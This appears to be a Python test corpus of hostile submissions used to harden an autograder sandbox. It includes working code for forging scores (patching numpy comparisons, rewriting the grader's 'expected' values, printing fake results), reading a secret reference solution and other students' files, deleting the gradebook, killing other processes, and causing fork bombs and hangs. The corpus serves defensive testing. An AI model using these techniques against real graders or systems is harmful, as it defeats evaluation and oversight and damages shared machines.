"""The corpus: a row an attack, with what it tries and how one sees from outside whether it worked.

    score      a wrong submission is taken for right
    leak       the course's token, or another student's, comes out in a value, a message or a print
    write      a file of the course, or a folder that anyone may write to, is not as it was
    network    a listener on loopback heard something
    victim     another process of the machine was killed, stopped, slowed, limited or traced
    survivor   a process or a segment of shared memory is still there afterwards
    resource   more memory, descriptors, output or a larger result than is allowed: it says RESOURCE when it got there
    hang       the grader is still waiting when it should not

Bombs are bounded, so that a hole cannot hurt the machine. Each attack must work against `naive.py`.
"""



from __future__ import annotations

import re
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One hostile module."""

    name: str
    effect: str
    source: str
    allowed: tuple[str, ...] = ()
    """Levels in which it is known to work; docs/sandbox.md says so."""


ATTACKS: list[Attack] = []


# What Python's own fence does not see, and only the kernel could refuse.
_KNOWN = dict.fromkeys(("make_fifo", "slow", "pin"), ("limited",))


def _add(effect: str, **sources: str) -> None:
    for name, source in sources.items():
        text = source.strip("\n")
        if not re.search(r"^(def f\(|f = |from \S+ import f$)", text, re.MULTILINE):  # the body of f alone
            text = "def f(x):\n" + "\n".join("    " + line for line in text.split("\n"))
        ATTACKS.append(Attack(name, effect, text, _KNOWN.get(name, ())))


# Someone's own score.
_add(
    "score",
    patch_allclose="import numpy as np\nnp.allclose = lambda *a, **k: True\ndef f(x): return x",
    patch_inside_numpy="""
import sys
numeric = sys.modules.get("numpy._core.numeric") or sys.modules["numpy.core.numeric"]
numeric.isclose = lambda *a, **k: numeric.np_true
numeric.np_true = True
numeric.all = numeric.builtins_all = lambda *a, **k: True
def f(x): return 0 * x
""",
    override_array_function="""
import numpy as np
class Right(np.ndarray):
    def __array_function__(self, function, types, args, kwargs): return True
def f(x): return x.view(Right)
""",
    duck_that_is_right="""
class Right:
    def __array_function__(self, function, types, args, kwargs): return True
    def __array__(self, *a, **k): return __import__("numpy").zeros((2, 2))
def f(x): return Right()
""",
    override_array_ufunc="""
import numpy as np
class Right(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kw): return np.ones((2, 2), bool)
    def __array_function__(self, *a): return np.True_
def f(x): return x.view(Right)
""",
    import_the_reference="from reference.secret import f",
    import_by_path="""
import sys
sys.path.insert(0, COURSE)
from reference.secret import f
""",
    load_by_spec="""
import importlib.util as u
spec = u.spec_from_file_location("secret", COURSE + "/reference/secret.py")
m = u.module_from_spec(spec); spec.loader.exec_module(m)
f = m.f
""",
    exec_the_reference='scope = {}\nexec(open(COURSE + "/reference/secret.py").read(), scope)\nf = scope["f"]',
    run_the_reference='import runpy\nf = runpy.run_path(COURSE + "/reference/secret.py")["f"]',
    loaded_reference="import sys\ndef f(x): return sys.modules['reference.secret'].f(x)",
    frames_above="""
import sys
def f(x):
    frame = sys._getframe()
    while frame:
        if "expected" in frame.f_locals: return frame.f_locals["expected"]
        frame = frame.f_back
""",
    frames_by_inspect="import inspect\ndef f(x): return next(s.frame.f_locals['expected'] for s in inspect.stack() if 'expected' in s.frame.f_locals)",
    frames_by_exception="""
def f(x):
    try: raise ValueError
    except ValueError as e:
        frame = e.__traceback__.tb_frame
        while "expected" not in frame.f_locals: frame = frame.f_back
        return frame.f_locals["expected"].copy()
""",
    search_all_objects="""
import gc, types
def f(x):
    for o in gc.get_objects():
        if isinstance(o, dict) and "W" in o and "TOKEN" in o: return o["W"] @ x
""",
    search_all_functions="""
import gc, types
def f(x):
    for o in gc.get_objects():
        if isinstance(o, types.FunctionType) and "TOKEN" in o.__globals__ and o.__name__ == "f": return o(x)
""",
    replace_the_graders_function="""
import sys
def f(x):
    sys.modules["__main__"].equal = lambda *a: True
    return x
""",
    write_the_graders_result="""
import sys
def f(x):
    sys.modules["__main__"].RESULT = type("D", (dict,), {"__setitem__": lambda *a: None})(score=1)
    return x
""",
    print_and_leave="""
import os
def f(x):
    print('{"score": 1}', flush=True)
    os._exit(0)
""",
    print_to_descriptor="""
import os
def f(x):
    os.write(1, b'{"score": 1}\\n')
    os._exit(0)
""",
    print_at_exit="""
import atexit
atexit.register(lambda: print('{"score": 1}'))
def f(x): return x
""",
    exit_with_a_score="""
import sys
class Result(SystemExit): pass
def f(x):
    print('{"score": 1}')
    raise Result(0)
""",
    replace_json="import json\njson.dumps = lambda *a, **k: '{\"score\": 1}'\ndef f(x): return x",
    replace_print="""
import builtins
real = builtins.print
builtins.print = lambda *a, **k: real('{"score": 1}')
def f(x): return x
""",
    replace_numpys_code="""
import numpy as np
def always(a, b, rtol=1, atol=1, equal_nan=False): return True
getattr(np.allclose, "__wrapped__", np.allclose).__code__ = always.__code__
def f(x): return x
""",
    rewrite_expected="""
import sys
def f(x):
    frame = sys._getframe()
    while frame:
        if "expected" in frame.f_locals: frame.f_locals["expected"][:] = x
        frame = frame.f_back
    return x
""",
    rewrite_expected_by_address="""
import gc, ctypes, sys
def f(x):
    frame = sys._getframe()
    while frame:
        e = frame.f_locals.get("expected")
        if e is not None: ctypes.memset(e.ctypes.data, 0, e.nbytes)
        frame = frame.f_back
    return 0 * x
""",
    trace_the_grader="""
import sys
def trace(frame, event, arg):
    if frame.f_code.co_name == "equal": frame.f_locals["expected"][:] = frame.f_locals["result"]
    return trace
sys.setprofile(trace)
def f(x): return 0 * x
""",
    swap_the_code="""
import sys
def f(x):
    m = sys.modules["__main__"]
    m.equal.__code__ = (lambda result, expected: True).__code__
    return x
""",
    hook_comparison_import="""
import sys, numpy as np
class M(type(np)):
    def __getattribute__(self, n): return (lambda *a, **k: True) if n == "allclose" else super().__getattribute__(n)
np.__class__ = M
def f(x): return x
""",
    finalizer="""
import sys
class F:
    def __del__(self): sys.modules["__main__"].RESULT["score"] = 1
def f(x):
    F()
    return "no"
""",
)

# What belongs to the course or to others.
_add(
    "leak",
    open_file='return open(COURSE + "/reference/secret.py").read()',
    open_os='import os\nfd = os.open(COURSE + "/reference/secret.py", 0)\nreturn os.read(fd, 1000).decode()',
    open_code='import io\nreturn io.open_code(COURSE + "/reference/secret.py").read().decode()',
    open_pathlib='import pathlib\nraise ValueError(pathlib.Path(COURSE, "reference/secret.py").read_text()[:200])',
    open_numpy='import numpy as np\nreturn np.fromfile(COURSE + "/reference/secret.py", "u1").tobytes().decode()',
    open_genfromtxt='import numpy as np\nreturn str(np.genfromtxt(COURSE + "/reference/secret.py", dtype=str, delimiter="@", max_rows=1))',
    open_linecache='import linecache\nreturn linecache.getline(COURSE + "/reference/secret.py", 1)',
    open_memmap='import numpy as np\nreturn bytes(np.memmap(COURSE + "/reference/secret.py", "u1", "r")).decode()',
    open_libc="""
import ctypes
c = ctypes.CDLL(None)
fd = c.open((COURSE + "/reference/secret.py").encode(), 0)
b = ctypes.create_string_buffer(500)
c.read(fd, b, 500)
return b.value.decode()
""",
    open_syscall="""
import ctypes
c = ctypes.CDLL(None)
fd = c.syscall(257, -100, ctypes.c_char_p((COURSE + "/reference/secret.py").encode()), 0)
b = ctypes.create_string_buffer(500)
c.read(fd, b, 500)
return b.value.decode()
""",
    open_openat2="""
import ctypes, struct
c = ctypes.CDLL(None)
fd = c.syscall(437, -100, ctypes.c_char_p((COURSE + "/reference/secret.py").encode()), ctypes.c_char_p(bytes(24)), 24)
b = ctypes.create_string_buffer(500)
c.read(fd, b, 500)
return b.value.decode()
""",
    open_fopen="""
import ctypes
c = ctypes.CDLL(None)
c.fopen.restype = ctypes.c_void_p
h = c.fopen((COURSE + "/reference/secret.py").encode(), b"r")
b = ctypes.create_string_buffer(500)
if h: c.fgets(b, 400, ctypes.c_void_p(h))
return b.value.decode()
""",
    open_gradebook='import sqlite3\nreturn str(sqlite3.connect(COURSE + "/gradebook.db").execute("select * from points").fetchall())',
    list_submissions='import os\nreturn str(os.listdir(COURSE + "/submissions"))',
    scan_submissions='import os\nreturn str([e.name for e in os.scandir(COURSE + "/submissions")])',
    glob_submissions='import glob\nreturn str(glob.glob(COURSE + "/submissions/*"))',
    walk_submissions="import os\nreturn str(list(os.walk(COURSE)))",
    list_libc="""
import ctypes
c = ctypes.CDLL(None)
c.opendir.restype = ctypes.c_void_p
c.readdir.restype = ctypes.POINTER(ctypes.c_char * 280)
d = c.opendir((COURSE + "/submissions").encode())
out = []
while d:
    e = c.readdir(ctypes.c_void_p(d))
    if not e: break
    out.append(e.contents.raw[19:100].split(bytes(1))[0].decode())
return str(out)
""",
    environment="import os\nreturn str(dict(os.environ))",
    environment_proc='return open(f"/proc/{GRADER}/environ").read()',
    victims_commandline='return open(f"/proc/{VICTIM}/cmdline").read()',
    victims_maps="""
import ctypes
c = ctypes.CDLL(None)
fd = c.open(f"/proc/{VICTIM}/cmdline".encode(), 0)
b = ctypes.create_string_buffer(4000)
n = c.read(fd, b, 4000)
return b.raw[:max(n, 0)].decode()
""",
    victims_memory="""
import ctypes
c = ctypes.CDLL(None, use_errno=True)
class V(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("n", ctypes.c_size_t)]
where = [l.split()[0] for l in open(f"/proc/{VICTIM}/maps") if "[stack]" in l][0]
a, b = (int(p, 16) for p in where.split("-"))
buffer = ctypes.create_string_buffer(b - a)
l, r = V(ctypes.addressof(buffer), b - a), V(a, b - a)
n = c.process_vm_readv(VICTIM, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)
data = buffer.raw
at = data.find(b"canary")
return data[at:at + 40].decode(errors="replace") if at >= 0 else "none"
""",
    import_a_submission="""
import sys, os
sys.path.insert(0, COURSE + "/submissions")
return open(os.path.join(COURSE, "submissions", os.listdir(COURSE + "/submissions")[0])).read()
""",
    through_a_descriptor="""
import os
for fd in range(3, 64):
    try: there = os.open("reference/secret.py", 0, dir_fd=os.open(COURSE, os.O_PATH))
    except OSError: continue
    return os.read(there, 500).decode()
""",
    through_proc_root='return open("/proc/self/root" + COURSE + "/reference/secret.py").read()',
)

# What is written.
_add(
    "write",
    write_file='open(COURSE + "/reference/secret.py", "a").write("# was here")',
    write_new='open(OUT + "/new", "w").write("x")',
    write_os='import os\nos.write(os.open(OUT + "/new", os.O_CREAT | os.O_WRONLY, 0o666), b"x")',
    write_empty="import ctypes\nctypes.CDLL(None).creat((OUT + '/new').encode(), 0o666)",
    write_libc="import ctypes\nctypes.CDLL(None).open((COURSE + '/gradebook.db').encode(), 0o1001)",
    write_tmpfile="import os\nfd = os.open(OUT, os.O_TMPFILE | os.O_RDWR)\nos.link(f'/proc/self/fd/{fd}', OUT + '/new', src_dir_fd=fd)",
    write_numpy='import numpy as np\nnp.save(OUT + "/new.npy", x)',
    write_tofile='x.tofile(OUT + "/new.bin")',
    write_memmap='import numpy as np\nnp.memmap(COURSE + "/gradebook.db", "u1", "r+")[:4] = 0',
    write_database='import sqlite3\nwith sqlite3.connect(COURSE + "/gradebook.db") as b: b.execute("update points set points = 100")',
    write_log='import logging\nlogging.basicConfig(filename=OUT + "/log", level=10)\nlogging.info("x")',
    remove="import os\nos.remove(COURSE + '/gradebook.db')",
    remove_libc="import ctypes\nctypes.CDLL(None).unlink((COURSE + '/gradebook.db').encode())",
    remove_tree="import shutil\nshutil.rmtree(COURSE + '/submissions')",
    rename="import os\nos.rename(COURSE + '/gradebook.db', COURSE + '/old.db')",
    rename_libc="import ctypes\nctypes.CDLL(None).rename((COURSE + '/gradebook.db').encode(), (COURSE + '/old.db').encode())",
    link="import os\nos.link(COURSE + '/gradebook.db', OUT + '/link')",
    symlink="import ctypes\nctypes.CDLL(None).symlink(b'/etc/passwd', (OUT + '/link').encode())",
    make_folder="import os\nos.mkdir(OUT + '/new')",
    make_fifo="import os\nos.mkfifo(OUT + '/fifo')",
    change_mode="import os\nos.chmod(COURSE + '/gradebook.db', 0o600)",
    change_mode_libc="import ctypes\nctypes.CDLL(None).chmod((COURSE + '/gradebook.db').encode(), 0)",
    change_time="import os\nos.utime(COURSE + '/gradebook.db', (1, 1))",
    change_time_libc="import ctypes\nctypes.CDLL(None).utime((COURSE + '/gradebook.db').encode(), None)",
    truncate="import ctypes\nctypes.CDLL(None).truncate((COURSE + '/gradebook.db').encode(), 0)",
    bind_unix_socket="import socket\nsocket.socket(socket.AF_UNIX).bind(OUT + '/s')",
)

_add(
    "network",
    tcp="import socket\nsocket.create_connection(('127.0.0.1', TCP), 1)",
    tcp_urllib="import urllib.request\nurllib.request.urlopen(f'http://127.0.0.1:{TCP}/', timeout=0.3)",
    tcp_libc="""
import ctypes, struct
c = ctypes.CDLL(None)
s = c.socket(2, 1, 0)
c.connect(s, struct.pack("<H", 2) + struct.pack(">H", TCP) + bytes([127, 0, 0, 1]) + bytes(8), 16)
""",
    tcp_asyncio="""
import asyncio
async def go(): await asyncio.open_connection("127.0.0.1", TCP)
asyncio.run(go())
""",
    udp="import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', UDP))",
    udp_libc="""
import ctypes, struct
c = ctypes.CDLL(None)
s = c.socket(2, 2, 0)
c.sendto(s, b"x", 1, 0, struct.pack("<H", 2) + struct.pack(">H", UDP) + bytes([127, 0, 0, 1]) + bytes(8), 16)
""",
    unix_path="import socket\nsocket.socket(socket.AF_UNIX).connect(UNIX)",
    unix_abstract="import socket\nsocket.socket(socket.AF_UNIX).connect(ABSTRACT)",
    unix_libc="""
import ctypes, struct
c = ctypes.CDLL(None)
s = c.socket(1, 1, 0)
address = struct.pack("<H", 1) + UNIX.encode() + bytes(1)
c.connect(s, address, len(address))
""",
    udp_io_uring_or_plain="""
import ctypes, struct, socket
c = ctypes.CDLL(None)
ring = c.syscall(425, 4, ctypes.create_string_buffer(120))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("127.0.0.1", UDP)); s.send(b"x")
""",
)

_add(
    "victim",
    kill="import os\nos.kill(VICTIM, 9)",
    kill_libc="import ctypes\nctypes.CDLL(None).kill(VICTIM, 9)",
    kill_tgkill="import ctypes\nctypes.CDLL(None).syscall(234, VICTIM, VICTIM, 9)",
    kill_pidfd="""
import ctypes
c = ctypes.CDLL(None)
c.syscall(424, c.syscall(434, VICTIM, 0), 9, None, 0)
""",
    kill_by_owner="""
import fcntl, os, time
r, w = os.pipe()
fcntl.fcntl(r, fcntl.F_SETOWN, VICTIM)
fcntl.fcntl(r, 10, 9)
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(w, b"x")
time.sleep(0.1)
""",
    stop="import os, signal\nos.kill(VICTIM, signal.SIGSTOP)",
    queue_signal="import ctypes\nctypes.CDLL(None).sigqueue(VICTIM, 9, 0)",
    slow="import os\nos.setpriority(os.PRIO_PROCESS, VICTIM, 19)",
    slow_libc="import ctypes\nctypes.CDLL(None).setpriority(0, VICTIM, 19)",
    limit="import resource\nresource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (9, 9))",
    pin="import os\nos.sched_setaffinity(VICTIM, {0})",
    trace="import ctypes, time\nctypes.CDLL(None).ptrace(16, VICTIM, 0, 0)\ntime.sleep(0.1)\nctypes.CDLL(None).kill(VICTIM, 19)",
)

# SLEEP is a time that no other process of this machine has in its command line.
_add(
    "survivor",
    fork="import os, time\nif os.fork() == 0: time.sleep(60)",
    fork_twice="""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(60)
    os._exit(0)
""",
    fork_libc="import ctypes, time\nif ctypes.CDLL(None).fork() == 0: time.sleep(60)",
    fork_syscall="import ctypes, time\nif ctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0) == 0: time.sleep(60)",
    fork_clone3="""
import ctypes, struct, time
a = struct.pack("<11Q", 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
if ctypes.CDLL(None).syscall(435, ctypes.c_char_p(a), 88) == 0: time.sleep(60)
""",
    fork_bomb="""
import os, time
for _ in range(12):
    if os.fork() == 0: time.sleep(60)
""",
    popen="import subprocess\nsubprocess.Popen(['sleep', SLEEP], start_new_session=True)",
    system="import os\nos.system(f'setsid sleep {SLEEP} >/dev/null 2>&1 &')",
    spawn="import os\nos.posix_spawn('/bin/sleep', ['sleep', SLEEP], {}, setsid=True)",
    libc_system="import ctypes\nctypes.CDLL(None).system(f'setsid sleep {SLEEP} >/dev/null 2>&1 &'.encode())",
    fork_exec="""
import subprocess
subprocess._USE_POSIX_SPAWN = subprocess._USE_VFORK = False
subprocess.Popen(f"exec sleep {SLEEP}", shell=True, start_new_session=True)
""",
    fork_exec_low="""
import _posixsubprocess, os
r, w = os.pipe()
arguments = [[b"/bin/sleep", SLEEP.encode()], (b"/bin/sleep",), True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w]
_posixsubprocess.fork_exec(*arguments, True, True, -1, None, None, None, -1, None, False)
""",
    multiprocessing="""
import multiprocessing, os, time
multiprocessing.get_context("fork").Process(target=time.sleep, args=(60,)).start()
os._exit(0)
""",
    shared_memory="import ctypes\nctypes.CDLL(None).shmget(KEY, 4096, 0o1666)",
)

_add(
    "resource",
    memory="import numpy as np\na = np.ones(100 << 20)\nprint('RES' + 'OURCE', flush=True)\nreturn x",
    memory_in_pieces="a = []\nfor _ in range(80): a.append(bytearray(b'x' * (10 << 20)))\nprint('RES' + 'OURCE', flush=True)",
    memory_mmap="import mmap\nm = mmap.mmap(-1, 800 << 20)\nm[::4096] = b'x' * len(m[::4096])\nprint('RES' + 'OURCE', flush=True)",
    memory_file="import os\nfd = os.memfd_create('x')\nos.write(fd, bytes(100 << 20))\nprint('RES' + 'OURCE', flush=True)",
    memory_locked="import ctypes\nb = ctypes.create_string_buffer(1 << 20)\nif ctypes.CDLL(None).mlock(b, 1 << 20) == 0: print('RES' + 'OURCE', flush=True)",
    limits_raised="""
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_AS)
resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
if resource.getrlimit(resource.RLIMIT_AS)[0] == -1: print("RES" + "OURCE", flush=True)
""",
    descriptors="import os\nopened = [os.dup(0) for _ in range(200)]\nprint('RES' + 'OURCE', flush=True)",
    threads="""
import threading, time
for _ in range(40): threading.Thread(target=time.sleep, args=(1,), daemon=True).start()
print("RES" + "OURCE", flush=True)
""",
    threads_low="""
import _thread, time
for _ in range(40): _thread.start_new_thread(time.sleep, (1,))
print("RES" + "OURCE", flush=True)
""",
    output="for _ in range(3000): print('y' * 100)\nprint('RES' + 'OURCE', flush=True)",
    new_namespace="import ctypes\nif ctypes.CDLL(None).unshare(0x10000000) == 0: print('RES' + 'OURCE', flush=True)",
    watches="import ctypes\nif ctypes.CDLL(None).eventfd(0, 0) >= 0 and ctypes.CDLL(None).inotify_init() >= 0: print('RES' + 'OURCE', flush=True)",
)

_add(
    "hang",
    loop="while True: pass",
    loop_at_import="while True: pass\ndef f(x): return x",
    sleep="import time\ntime.sleep(1000)",
    loop_that_catches="while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    loop_without_alarm="""
import signal
for n in range(1, 65):
    try: signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.setitimer(signal.ITIMER_REAL, 0)
while True: pass
""",
    loop_in_c="10 ** 10 ** 10",
    loop_in_repr="""
class R:
    def __repr__(self):
        while True: pass
    def __array__(self, *a, **k):
        while True: pass
return R()
""",
    loop_in_del="""
class D:
    def __del__(self):
        while True: pass
D()
return x
""",
    loop_at_exit="""
import atexit, time
atexit.register(time.sleep, 1000)
def f(x): return x
""",
    loop_in_exception="""
class E(Exception):
    def __str__(self):
        while True: pass
    __repr__ = __str__
raise E
""",
    regular_expression="import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')",
    stop_itself="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    read_input="import sys, os\nr, w = os.pipe()\nos.read(r, 1)",
    read_a_fifo="import threading\nlock = threading.Lock()\nlock.acquire(); lock.acquire()",
    exit_loop="""
import sys
class S(SystemExit):
    @property
    def code(self):
        while True: pass
    def __str__(self):
        while True: pass
    __repr__ = __str__
try: raise S
except S as e: raise ValueError(str(e))
""",
    wait_for_signal="import signal\nsignal.pause()",
)
